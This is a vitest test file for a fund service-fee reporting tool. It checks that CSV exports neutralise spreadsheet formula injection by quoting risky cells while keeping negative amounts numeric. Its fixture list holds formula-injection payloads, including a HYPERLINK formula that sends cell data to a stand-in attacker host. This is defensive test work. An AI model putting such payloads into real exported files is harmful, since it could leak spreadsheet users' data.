import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { businessDaysBetween } from '../../src/calendar/nyseCalendar.js';
import { isFormulaLike, toCsv } from '../../src/cli/csvOut.js';
import { importNetAssets } from '../../src/feeds/netAssetsFeed.js';
import { importProviderAssets } from '../../src/feeds/providerAssetsFeed.js';
import { importProviders } from '../../src/feeds/providersFeed.js';
import { importExhibits } from '../../src/import/exhibitImport.js';
import { providerStatementCsv } from '../../src/reports/providerStatement.js';
import { writePaymentsCsv } from '../../src/reports/providerStatementFiles.js';
import { serviceFeesReport } from '../../src/reports/serviceFeesReport.js';
import type { Database } from '../../src/store/database.js';
import { dialects, freshDatabase, type TestDatabase } from '../support/databases.js';
import { seedExhibitFiles } from '../support/seedDocuments.js';
import { seedsAvailable } from '../support/seeds.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '@SUM(A1)', '-cmd'];

describe('CSV cells that a spreadsheet would run as formulas', () => {
  it.each(HOSTILE)('%s is written with a leading single quote', (name) => {
    const csv = toCsv(['name', 'amount'], [{ name, amount: '1.00' }]);
    const [, row] = parse(csv) as string[][];
    expect(row).toEqual([`'${name}`, '1.00']);
  });

  it.each(['-12.50', '-0.01', '-5', '12.50', '0.00', '100'])(
    '%s is a number and stays as it is',
    (amount) => {
      expect(isFormulaLike(amount)).toBe(false);
      expect(toCsv(['amount'], [{ amount }]).split('\n')[1]).toBe(amount);
    },
  );

  it.each(['-', '-1e3', '-12.50 USD', '\tcmd', '\rcmd', '+12.50'])(
    '%j is not a plain decimal and is neutralised',
    (s) => {
      expect(isFormulaLike(s)).toBe(true);
    },
  );

  it('a provider statement keeps a negative amount a number and neutralises the provider name', () => {
    const csv = providerStatementCsv({ month: '2007-01' }, {
      id: 'DLR-1',
      name: '@SUM(A1)',
      kind: 'dealer',
      amount: '-12.50',
      classes: [
        {
          portfolio: '-cmd',
          class: 'C',
          days: 31,
          averageDailyNetAssets: '1000.00',
          ratePct: '0.25',
          amount: '-12.50',
        },
      ],
    } as unknown as Parameters<typeof providerStatementCsv>[1]);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.provider, r.portfolio, r.amount])).toEqual([
      ["'@SUM(A1)", "'-cmd", '-12.50'],
      ["'@SUM(A1)", 'Total', '-12.50'],
    ]);
  });
});

describe.skipIf(!seedsAvailable).each(dialects)(
  'service-fee files of hostile provider names on %s',
  (dialect) => {
    let tdb: TestDatabase;
    let db: Database;
    beforeAll(async () => {
      tdb = await freshDatabase(dialect);
      db = await tdb.open();
      await importExhibits(
        db,
        seedExhibitFiles().filter((f) => f.fileName.includes('002_')),
      );
      const days = businessDaysBetween('2006-12-29', '2007-01-31');
      await importNetAssets(
        db,
        'na.csv',
        Buffer.from(
          ['date,portfolio,class,net_assets', ...days.map((d) => `${d},AIM Value Fund,C,36500000.00`)].join(
            '\n',
          ),
        ),
      );
      const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
      await importProviders(
        db,
        'providers.csv',
        Buffer.from(
          [
            'id,name,kind,agreement_date,own_rate_pct,terminated_on',
            ...HOSTILE.map((name, i) => `DLR-${i + 1},${quote(name)},dealer,2000-01-01,,`),
          ].join('\n'),
        ),
      );
      await importProviderAssets(
        db,
        'assets.csv',
        Buffer.from(
          [
            'date,provider,portfolio,class,net_assets',
            ...days
              .filter((d) => d >= '2007-01-01')
              .flatMap((d) => HOSTILE.map((_, i) => `${d},DLR-${i + 1},AIM Value Fund,C,3650000.00`)),
          ].join('\n'),
        ),
      );
    });
    afterAll(async () => {
      await db.close();
      await tdb.drop();
    });

    it('the payments file and each statement neutralise the names and keep the amounts numbers', async () => {
      const report = await serviceFeesReport(db, '2007-01');
      const path = join(mkdtempSync(join(tmpdir(), 'plan12b-csv-')), 'payments.csv');
      expect(writePaymentsCsv(report, path)).toBe(4);
      const payments = parse(readFileSync(path), { columns: true }) as Record<string, string>[];
      // 3,650,000.00 × 0.25% / 365 = 25.00 a day × 29 days = 725.00 each: the first row is
      // 2007-01-03 (01-01 a holiday, 01-02 the NYSE's closure in mourning for President Ford).
      expect(payments.map((p) => [p.provider_id, p.name, p.amount])).toEqual(
        HOSTILE.map((name, i) => [`DLR-${i + 1}`, `'${name}`, '725.00']),
      );
      for (const p of report.providers) {
        const rows = parse(providerStatementCsv(report, p), { columns: true }) as Record<string, string>[];
        expect(rows.every((r) => r.provider === `'${p.name}`)).toBe(true);
        expect(rows.at(-1)!.amount).toBe('725.00');
      }
    });
  },
);
